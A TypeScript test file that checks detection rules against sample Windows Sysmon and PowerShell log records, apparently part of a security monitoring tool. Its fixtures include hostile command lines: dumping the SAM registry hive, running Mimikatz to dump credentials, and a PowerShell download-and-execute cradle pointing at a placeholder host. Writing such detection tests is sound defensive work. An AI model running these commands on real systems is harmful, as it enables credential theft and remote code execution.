import { expect, test } from "vitest";
import { createRules } from "../../create-rules.ts";
import { decodeRecord } from "../../test/decode-record.ts";

const WRITTEN = { TimeCreated: "2026-11-24T10:00:00Z", Computer: "web01.corp.example.com", EventRecordID: "7" };

test.each([
  [
    "a program that Sysmon saw",
    "Microsoft-Windows-Sysmon",
    1,
    "reg save HKLM\\SAM C:\\t\\sam",
    "windows-secrets-dumped",
  ],
  ["a script", "Microsoft-Windows-PowerShell", 4104, "Invoke-Mimikatz -DumpCreds", "windows-secrets-dumped"],
  [
    "a script that fetches code",
    ...(["Microsoft-Windows-PowerShell", 4104] as const),
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "windows-command-from-elsewhere",
  ],
])("the rules of the Security log hold for %s", (_, Provider, EventID, line, rule) => {
  const program = { User: "CORP\\svc-web", Image: "C:\\x.exe", CommandLine: line };
  const script = { UserName: "CORP\\svc-web", ScriptBlockText: line };
  const record = { ...WRITTEN, Provider, EventID, EventData: EventID === 1 ? program : script };
  expect(
    createRules()
      .check(decodeRecord(record))
      .map((match) => match.rule),
  ).toContain(rule);
});
